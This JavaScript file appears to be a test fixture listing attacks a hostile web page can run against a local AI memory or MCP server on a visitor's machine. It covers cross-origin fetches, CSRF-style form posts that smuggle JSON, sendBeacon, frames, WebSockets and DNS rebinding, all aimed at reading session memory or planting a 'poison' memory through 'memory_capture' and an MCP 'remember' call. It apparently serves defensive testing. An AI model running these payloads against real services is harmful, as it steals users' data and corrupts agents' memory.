// What a hostile web page can try against a port on its visitor's machine. Runs in the browser, served from another
// origin (or from a name that was rebound). Each attack resolves with what it could read or tell of the other side, ''
// for nothing. `token` is null, or the real one: a page may have learned it somewhere.

const poison = 'planted by a web page'
const routes = ['/healthz', '/memory/session-context?format=text&wake_depth=deep', '/rpc', '/mcp', '/']
const call = JSON.stringify({
  method: 'memory_capture',
  params: { text: poison, role: 'user', project: 'global' },
})

const withToken = (url, token) => {
  if (token === null) return url
  const query = `token=${token}&access_token=${token}&authorization=Bearer%20${token}`
  return `${url}${url.includes('?') ? '&' : '?'}${query}`
}
const bearer = (token) => (token === null ? {} : { Authorization: `Bearer ${token}` })

/** Everything that could be read, in one text; what is refused reads as nothing. */
async function reading(tries) {
  const read = await Promise.all(tries.map((attempt) => Promise.resolve(attempt).catch(() => '')))
  return read.join('')
}

function fetched(url, options) {
  return reading([
    fetch(url, options).then(async (answer) => (answer.type === 'opaque' ? '' : answer.text())),
  ])
}

/** Adds an element and tells whether the browser took what it loaded. */
function element(name, attributes) {
  return new Promise((resolve) => {
    const made = document.createElement(name)
    made.onload = () => resolve(`loaded ${made.naturalWidth ?? ''}`)
    made.onerror = () => resolve('')
    Object.assign(made, attributes)
    document.body.append(made)
    setTimeout(() => resolve(''), 3000)
  })
}

/** A frame's load event fires for errors too; only its content tells. */
function frame(tag, attribute, url) {
  return new Promise((resolve) => {
    const made = document.createElement(tag)
    const look = () => {
      try {
        resolve(made.contentDocument?.body?.textContent ?? '')
      } catch {
        resolve('')
      }
    }
    made.onload = look
    made.onerror = () => resolve('')
    made[attribute] = url
    document.body.append(made)
    setTimeout(look, 1500)
  })
}

function formPost(url, enctype, fields) {
  const target = `sink${Math.random()}`
  const sink = document.createElement('iframe')
  sink.name = target
  const form = document.createElement('form')
  Object.assign(form, { action: url, method: 'post', enctype, target })
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement('input')
    Object.assign(field, { type: 'hidden', name, value })
    form.append(field)
  }
  document.body.append(sink, form)
  form.submit()
  return new Promise((resolve) => setTimeout(() => resolve(''), 300))
}

function webSocket(url, protocols) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url.replace(/^http/, 'ws'), protocols)
    socket.onopen = () => resolve('open')
    socket.onmessage = ({ data }) => resolve(String(data))
    socket.onerror = () => resolve('')
    setTimeout(() => resolve(''), 2000)
  })
}

globalThis.attacks = {
  'fetch, simple': ({ at, token }) => reading(routes.map((path) => fetched(withToken(at + path, token)))),
  'fetch with an Authorization header': ({ at, token }) =>
    reading(routes.map((path) => fetched(at + path, { headers: { Authorization: `Bearer ${token}` } }))),
  XMLHttpRequest: ({ at, token }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(request.responseText)
      request.onerror = () => resolve('')
      request.open('GET', withToken(at + routes[1], token))
      for (const [name, value] of Object.entries(bearer(token))) request.setRequestHeader(name, value)
      request.send()
    }),
  'fetch, JSON to /rpc': ({ at, token }) =>
    fetched(`${at}/rpc`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', ...bearer(token) },
      body: call,
    }),
  'fetch, JSON to /rpc as text': ({ at, token }) =>
    fetched(withToken(`${at}/rpc`, token), { method: 'POST', mode: 'no-cors', body: call }),
  'fetch, JSON to /rpc as no type at all': ({ at, token }) =>
    fetched(withToken(`${at}/rpc`, token), { method: 'POST', mode: 'no-cors', body: new Blob([call]) }),
  'fetch, a message to /mcp': ({ at, token }) =>
    fetched(`${at}/mcp`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        Accept: 'application/json, text/event-stream',
        ...bearer(token),
      },
      body: JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: { name: 'remember', arguments: { text: poison } },
      }),
    }),
  'PUT and DELETE': ({ at, token }) =>
    reading(
      ['PUT', 'DELETE'].map((method) => fetched(`${at}/rpc`, { method, headers: bearer(token), body: call })),
    ),
  'form post, urlencoded': ({ at, token }) =>
    formPost(withToken(`${at}/rpc`, token), 'application/x-www-form-urlencoded', { call }),
  'form post, text that reads as JSON': ({ at, token }) => {
    // name=value: the equals sign lands inside a string
    const [head, tail] = [`${call.slice(0, -1)},"ignored":"`, '"}']
    return formPost(withToken(`${at}/rpc`, token), 'text/plain', { [head]: tail })
  },
  'form post, multipart': ({ at, token }) =>
    formPost(withToken(`${at}/rpc`, token), 'multipart/form-data', { call }),
  sendBeacon: async ({ at, token }) => {
    navigator.sendBeacon(withToken(`${at}/rpc`, token), call)
    navigator.sendBeacon(withToken(`${at}/rpc`, token), new Blob([call], { type: 'text/plain' }))
    return new Promise((resolve) => setTimeout(() => resolve(''), 150))
  },
  image: ({ at, token }) =>
    reading(routes.map((path) => element('img', { src: withToken(at + path, token) }))),
  script: async ({ at, token }) => {
    const loaded = await reading(
      routes.map((path) => element('script', { src: withToken(at + path, token) })),
    )
    return loaded + (globalThis.leaked ?? '')
  },
  'module import': ({ at, token }) =>
    reading(
      routes.map((path) =>
        import(withToken(at + path, token)).then((module) => `module ${Object.keys(module)}`),
      ),
    ),
  'style sheet': ({ at, token }) =>
    reading(routes.map((path) => element('link', { rel: 'stylesheet', href: withToken(at + path, token) }))),
  frame: ({ at, token }) =>
    reading(routes.map((path) => frame('iframe', 'src', withToken(at + path, token)))),
  object: ({ at, token }) =>
    reading(routes.map((path) => frame('object', 'data', withToken(at + path, token)))),
  EventSource: ({ at, token }) =>
    reading(
      routes.map(
        (path) =>
          new Promise((resolve) => {
            const source = new EventSource(withToken(at + path, token), { withCredentials: true })
            const end = (text) => {
              source.close()
              resolve(text)
            }
            source.onopen = () => end('open')
            source.onerror = () => end('')
            setTimeout(() => end(''), 2000)
          }),
      ),
    ),
  WebSocket: ({ at, token }) =>
    reading(
      routes.map((path) => webSocket(withToken(at + path, token), token === null ? [] : ['bearer', token])),
    ),
}
